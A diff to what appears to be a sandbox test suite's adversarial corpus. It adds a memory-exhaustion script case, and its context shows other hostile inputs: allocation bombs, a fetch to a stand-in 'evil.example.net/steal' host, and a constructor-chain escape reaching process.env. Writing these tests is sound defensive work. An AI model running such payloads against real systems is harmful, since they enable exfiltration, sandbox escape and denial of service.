@@ -114,6 +114,7 @@ describe("adversarial corpus: each ends in its error and the next call works", (
     ["allocation bomb", "export default () => { const a = []; for (;;) a.push({ s: 'x'.repeat(64) + Math.random() }) }", "memory_limit_exceeded"],
     ["one huge allocation", "export default () => new Array(1e8).fill(0).length", "memory_limit_exceeded"],
     ["native allocations between polls", "const keep = []; export default () => { for (let i = 0; i < 60; i++) keep.push(new Array(100000).fill(i)); return keep.length }", "memory_limit_exceeded"],
+    ["large strings between polls", "export default () => { const keep = []; for (;;) keep.push('x'.repeat(1e6) + keep.length) }", "memory_limit_exceeded"],
     ["huge result", "export default () => 'x'.repeat(2 * 1024 * 1024)", "result_too_large"],
     ["fetch to a host not allowed", "export const permissions = { net: ['api.example.com'] };\nexport default async () => (await fetch('https://evil.example.net/steal')).status", "permission_denied"],
     ["reach host objects", "export default () => globalThis.constructor.constructor('return process')().env", "script_error"],
